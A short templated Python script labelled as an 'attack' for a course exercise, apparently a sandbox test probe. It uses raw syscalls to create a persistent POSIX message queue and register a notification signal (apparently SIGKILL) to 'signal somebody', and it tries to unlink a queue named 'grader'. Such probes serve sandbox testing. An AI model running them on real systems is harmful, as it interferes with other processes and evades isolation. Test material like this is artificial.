"""Leaves a POSIX message queue behind and has it signal somebody."""
# attack: week=03 exercise=pyramid
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
queue = libc.syscall(@SYS:mq_open@, b"@MARK@", 0o100 | 2, 0o666, None)
print(queue, os.strerror(ctypes.get_errno()))
event = (ctypes.c_int * 16)(0, 0, 9, 0)
print(libc.syscall(@SYS:mq_notify@, queue, event), os.strerror(ctypes.get_errno()))
print(libc.syscall(@SYS:mq_unlink@, b"grader"), os.strerror(ctypes.get_errno()))
